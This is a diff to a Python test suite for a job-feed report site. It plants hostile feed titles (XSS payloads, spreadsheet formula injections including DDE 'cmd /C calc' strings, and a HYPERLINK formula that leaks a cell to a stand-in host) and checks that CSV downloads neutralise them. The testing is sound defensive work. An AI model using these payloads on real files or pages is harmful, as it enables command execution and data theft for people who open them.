@@ -31,21 +31,32 @@ HOSTILE = (
     f'"><svg onload="{PAYLOAD}">',
     f"javascript:{PAYLOAD}",
 )
+FORMULAS = (
+    '=HYPERLINK("http://example.invalid/x?"&A1,"Click for the data")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "=1+1",
+    "@A1",
+)
+"""Titles a spreadsheet would run as formulas if a CSV download carried them verbatim."""
 PWNED = re.compile(r"""data-pwned\s*=\s*["']?1""")
 NICHE = "llm_applications"
 
 
-def hostile_feed(path: Path, n: int = 800) -> Path:
+def hostile_feed(path: Path, n: int = 1600) -> Path:
     """Feed items as a scraper would save them: hostile titles, descriptions and skills."""
     items = [
         {
-            "title": f"LLM chatbot {HOSTILE[i % len(HOSTILE)]}",
+            "title": (
+                f"LLM chatbot {HOSTILE[i % len(HOSTILE)]}" if i % 10 < 4 else FORMULAS[i % 10 - 4]
+            ),
             "link": f"https://example.com/jobs/hostile-{i}",
             "published": f"2024-03-{1 + i % 28:02d}T10:00:00Z",
             "description": (
                 f"{html.escape(HOSTILE[(i + 1) % len(HOSTILE)])}<br />"
                 "<b>Hourly Range</b>: $40.00-$80.00<br />"
-                f"<b>Skills</b>: {html.escape(HOSTILE[1])}, Python, LangChain<br />"
+                f"<b>Skills</b>: {html.escape(HOSTILE[1])}, =1+1, Python, LangChain<br />"
                 "<b>Country</b>: United States"
             ),
         }
@@ -213,3 +224,51 @@ def test_the_provenance_banner_is_visible_above_the_first_heading(site, chromium
     assert height > 20 and visibility == "visible" and display != "none"
     assert 0 <= top and bottom <= layout["viewport"]  # on the first screen, no scrolling
     assert bottom <= layout["heading"]  # above the page's first heading
+
+
+def _csv_downloads(page: Path) -> dict[str, list[dict[str, str]]]:
+    """Every CSV download of ``page``, decoded: file name -> rows."""
+    import base64
+    import csv
+    import io
+
+    found = {}
+    for name, data in re.findall(
+        r'download="([^"]+\.csv)" href="data:text/csv;base64,([A-Za-z0-9+/=]+)"', page.read_text()
+    ):
+        text = base64.b64decode(data).decode("utf-8")
+        found[name] = list(csv.DictReader(io.StringIO(text)))
+    return found
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_no_csv_download_carries_a_spreadsheet_formula(site):
+    from fdsa.reporting.display import CSV_NOTE, FORMULA_STARTS
+
+    n_files, n_neutralised, negatives = 0, 0, 0
+    for report in REPORTS:
+        (page,) = published(site, report)
+        downloads = _csv_downloads(page)
+        assert downloads, f"{report} offers no CSV"
+        assert html.escape(CSV_NOTE) in page.read_text()
+        for name, rows in downloads.items():
+            n_files += 1
+            for row in rows:
+                for cell in row.values():
+                    if _is_number(cell):
+                        negatives += cell.startswith("-")  # numbers stay numbers, sign and all
+                        continue
+                    assert not cell.startswith(FORMULA_STARTS), (report, name, cell)
+                    n_neutralised += cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS)
+    assert n_neutralised > 0, "the planted formulas never reached a CSV"
+    assert negatives > 0, "no negative number was checked"
+    titles = _csv_downloads(published(site, "warehouse_overview")[0])["top_job_titles.csv"]
+    shown = {row["title"] for row in titles}
+    assert "'" + FORMULAS[0] in shown and "'" + FORMULAS[1] in shown
